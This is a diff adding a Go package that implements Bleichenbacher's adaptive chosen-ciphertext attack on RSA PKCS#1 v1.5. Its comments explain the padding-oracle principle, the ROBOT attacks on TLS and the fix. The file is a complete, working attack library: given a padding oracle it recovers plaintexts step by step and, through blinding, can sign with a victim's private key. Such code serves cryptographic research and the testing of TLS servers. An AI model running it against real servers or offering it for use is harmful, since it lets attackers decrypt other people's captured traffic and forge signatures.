@@ -0,0 +1,247 @@
+// Package bleichenbacher implements the adaptive chosen ciphertext attack
+// of Bleichenbacher (CRYPTO 1998) against RSA PKCS#1 v1.5 encryption.
+//
+// A server that tells whether a ciphertext decrypts to a message starting
+// with 0x00 0x02, through an alert, an error message or its timing, is a
+// decryption oracle. RSA is malleable: c * s^e decrypts to m * s mod n, so
+// each conformant answer for a chosen s proves that m * s mod n falls in
+// [2B, 3B) with B = 2^(8(k-2)). Intersecting these constraints narrows
+// the set of candidates for m down to a single value, in thousands to
+// tens of thousands of queries for an oracle that only checks the first
+// two bytes, and many more for oracles that also check the rest of the
+// padding. TLS servers keep falling to this attack, known as ROBOT since
+// 2017. The fix is to never report padding errors, or better not to use
+// PKCS#1 v1.5 encryption at all.
+package bleichenbacher
+
+import (
+	"crypto/rsa"
+	"errors"
+	"io"
+	"math/big"
+)
+
+// Oracle returns true when ciphertext decrypts to a PKCS#1 v1.5
+// conformant message, one starting with 0x00 0x02
+type Oracle func(ciphertext []byte) bool
+
+// interval is the closed range [a, b]
+type interval struct {
+	a, b *big.Int
+}
+
+var (
+	one   = big.NewInt(1)
+	two   = big.NewInt(2)
+	three = big.NewInt(3)
+)
+
+// ceilDiv returns ceil(x / y) for positive y
+func ceilDiv(x, y *big.Int) *big.Int {
+	q, m := new(big.Int).DivMod(x, y, new(big.Int))
+	if m.Sign() != 0 {
+		q.Add(q, one)
+	}
+	return q
+}
+
+// floorDiv returns floor(x / y) for positive y
+func floorDiv(x, y *big.Int) *big.Int {
+	q, _ := new(big.Int).DivMod(x, y, new(big.Int))
+	return q
+}
+
+type attack struct {
+	pub    *rsa.PublicKey
+	e      *big.Int
+	k      int
+	oracle Oracle
+	// c0 is the blinded ciphertext
+	c0 *big.Int
+	// b2 and b3 are 2B and 3B
+	b2, b3 *big.Int
+}
+
+// query asks the oracle about c0 * s^e
+func (a *attack) query(s *big.Int) bool {
+	c := new(big.Int).Exp(s, a.e, a.pub.N)
+	c.Mul(c, a.c0).Mod(c, a.pub.N)
+	return a.oracle(c.FillBytes(make([]byte, a.k)))
+}
+
+// DecryptRaw recovers c^d mod n for ciphertext with the help of oracle,
+// as a k bytes big endian buffer where k is the size of the modulus. When
+// ciphertext itself is not conformant, it is first blinded with random
+// values read from rand, which also makes the attack a way to sign with
+// the private key.
+func DecryptRaw(rand io.Reader, pub *rsa.PublicKey, ciphertext []byte, oracle Oracle) ([]byte, error) {
+	k := (pub.N.BitLen() + 7) / 8
+	if k < 12 {
+		return nil, errors.New("bleichenbacher: modulus too small")
+	}
+	if len(ciphertext) != k {
+		return nil, errors.New("bleichenbacher: ciphertext size does not match the modulus")
+	}
+	c := new(big.Int).SetBytes(ciphertext)
+	if c.Cmp(pub.N) >= 0 {
+		return nil, errors.New("bleichenbacher: ciphertext out of range")
+	}
+	bb := new(big.Int).Lsh(one, uint(8*(k-2)))
+	a := &attack{
+		pub:    pub,
+		e:      big.NewInt(int64(pub.E)),
+		k:      k,
+		oracle: oracle,
+		c0:     c,
+		b2:     new(big.Int).Mul(two, bb),
+		b3:     new(big.Int).Mul(three, bb),
+	}
+
+	// step 1: blinding, find s0 such that c * s0^e is conformant
+	s0 := big.NewInt(1)
+	if !oracle(ciphertext) {
+		buf := make([]byte, k)
+		for {
+			if _, err := io.ReadFull(rand, buf); err != nil {
+				return nil, err
+			}
+			s0.SetBytes(buf).Mod(s0, pub.N)
+			if s0.Sign() == 0 {
+				continue
+			}
+			a.c0 = c
+			if a.query(s0) {
+				break
+			}
+		}
+		blind := new(big.Int).Exp(s0, a.e, pub.N)
+		a.c0 = blind.Mul(blind, c).Mod(blind, pub.N)
+	}
+	m := []interval{{new(big.Int).Set(a.b2), new(big.Int).Sub(a.b3, one)}}
+
+	// step 2a: the smallest s >= n/3B giving a conformant message
+	s := ceilDiv(pub.N, a.b3)
+	for !a.query(s) {
+		s.Add(s, one)
+	}
+	for {
+		m = a.narrow(m, s)
+		if len(m) == 0 {
+			return nil, errors.New("bleichenbacher: no candidate left, is the oracle lying?")
+		}
+		if len(m) == 1 && m[0].a.Cmp(m[0].b) == 0 {
+			break
+		}
+		if len(m) > 1 {
+			// step 2b: several intervals, search the next s linearly
+			s = new(big.Int).Add(s, one)
+			for !a.query(s) {
+				s.Add(s, one)
+			}
+		} else {
+			// step 2c: one interval, about doubles s each round
+			s = a.searchOne(m[0], s)
+		}
+	}
+
+	// step 4: unblind, m = m0 / s0 mod n
+	inv := new(big.Int).ModInverse(s0, pub.N)
+	if inv == nil {
+		return nil, errors.New("bleichenbacher: blinding factor not invertible, the modulus is factored")
+	}
+	inv.Mul(inv, m[0].a).Mod(inv, pub.N)
+	return inv.FillBytes(make([]byte, k)), nil
+}
+
+// searchOne is step 2c, picking s in ranges where a conformant message is
+// likely given the single interval [a, b]
+func (a *attack) searchOne(in interval, prev *big.Int) *big.Int {
+	n := a.pub.N
+	// r >= 2 (b * s - 2B) / n
+	r := new(big.Int).Mul(in.b, prev)
+	r.Sub(r, a.b2).Mul(r, two)
+	r = ceilDiv(r, n)
+	for ; ; r.Add(r, one) {
+		rn := new(big.Int).Mul(r, n)
+		// (2B + rn) / b <= s < (3B + rn) / a
+		lo := ceilDiv(new(big.Int).Add(a.b2, rn), in.b)
+		hi := ceilDiv(new(big.Int).Add(a.b3, rn), in.a)
+		for s := lo; s.Cmp(hi) < 0; s.Add(s, one) {
+			if a.query(s) {
+				return s
+			}
+		}
+	}
+}
+
+// narrow is step 3, keeping the parts of the intervals in m compatible
+// with m * s mod n being conformant
+func (a *attack) narrow(m []interval, s *big.Int) []interval {
+	n := a.pub.N
+	var out []interval
+	for _, in := range m {
+		// (a * s - 3B + 1) / n <= r <= (b * s - 2B) / n
+		lo := new(big.Int).Mul(in.a, s)
+		lo.Sub(lo, a.b3).Add(lo, one)
+		hi := new(big.Int).Mul(in.b, s)
+		hi.Sub(hi, a.b2)
+		for r := ceilDiv(lo, n); r.Cmp(floorDiv(hi, n)) <= 0; r.Add(r, one) {
+			rn := new(big.Int).Mul(r, n)
+			newA := ceilDiv(new(big.Int).Add(a.b2, rn), s)
+			if newA.Cmp(in.a) < 0 {
+				newA.Set(in.a)
+			}
+			newB := new(big.Int).Add(a.b3, rn)
+			newB = floorDiv(newB.Sub(newB, one), s)
+			if newB.Cmp(in.b) > 0 {
+				newB.Set(in.b)
+			}
+			if newA.Cmp(newB) > 0 {
+				continue
+			}
+			out = merge(out, interval{newA, newB})
+		}
+	}
+	return out
+}
+
+// merge adds in to the list of disjoint intervals m, joining the ones that
+// overlap
+func merge(m []interval, in interval) []interval {
+	for i, cur := range m {
+		if cur.b.Cmp(in.a) < 0 || in.b.Cmp(cur.a) < 0 {
+			continue
+		}
+		joined := interval{cur.a, cur.b}
+		if in.a.Cmp(joined.a) < 0 {
+			joined.a = in.a
+		}
+		if in.b.Cmp(joined.b) > 0 {
+			joined.b = in.b
+		}
+		rest := append(append([]interval{}, m[:i]...), m[i+1:]...)
+		return merge(rest, joined)
+	}
+	return append(m, in)
+}
+
+// Decrypt recovers the plaintext of a PKCS#1 v1.5 ciphertext with the
+// help of oracle
+func Decrypt(rand io.Reader, pub *rsa.PublicKey, ciphertext []byte, oracle Oracle) ([]byte, error) {
+	em, err := DecryptRaw(rand, pub, ciphertext, oracle)
+	if err != nil {
+		return nil, err
+	}
+	if em[0] != 0 || em[1] != 2 {
+		return nil, errors.New("bleichenbacher: recovered message is not PKCS#1 v1.5 padded")
+	}
+	for i := 2; i < len(em); i++ {
+		if em[i] == 0 {
+			if i < 10 {
+				break
+			}
+			return em[i+1:], nil
+		}
+	}
+	return nil, errors.New("bleichenbacher: recovered message is not PKCS#1 v1.5 padded")
+}